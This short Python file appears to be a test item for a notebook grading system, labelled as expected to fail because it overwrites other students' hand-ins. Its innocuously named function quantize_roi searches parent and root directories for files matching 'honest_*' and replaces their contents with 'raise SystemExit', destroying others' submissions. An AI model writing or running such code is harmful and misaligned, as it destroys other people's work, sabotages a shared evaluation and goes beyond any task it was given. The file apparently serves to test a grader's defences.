# expect: wrong|error
# why: nbgrader 18: the hand-ins of the others are overwritten
import glob

def quantize_roi(*args):
    found = [path for depth in range(8) for path in glob.glob("../" * depth + "honest_*")]
    for path in found + glob.glob("/*/honest_*.py") + glob.glob("/*/*/honest_*") + glob.glob("/*/*/*/honest_*"):
        open(path, "w").write("raise SystemExit\n")
